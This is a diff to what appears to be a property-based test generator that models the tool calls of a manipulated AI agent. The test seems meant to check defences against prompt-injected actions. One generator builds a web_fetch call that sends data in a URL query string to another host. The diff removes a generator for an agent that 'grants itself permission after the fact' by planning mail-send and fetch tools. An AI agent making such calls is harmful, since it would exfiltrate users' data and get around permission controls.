@@ -92,15 +92,7 @@ const asking = fc
       input: { url: `https://${host}/?d=${encodeURIComponent(data)}`.slice(0, 1_900) },
     },
   ]);
-/** Grants itself permission after the fact. */
-const planning = fc.constant<ModelCall[]>([
-  {
-    tool: "plan",
-    input: { tools: ["gmail_send", "gmail_draft_send", "calendar_event_create", "web_fetch"] },
-  },
-]);
-
 /** One turn of a manipulated model: several attacks at once, in any order, split in any way. */
 export const generatedAttack: fc.Arbitrary<ModelCall[]> = fc
-  .array(fc.oneof(sending, drafting, inviting, asking, planning), { minLength: 1, maxLength: 3 })
+  .array(fc.oneof(sending, drafting, inviting, asking), { minLength: 1, maxLength: 3 })
   .map((lists) => lists.flat());
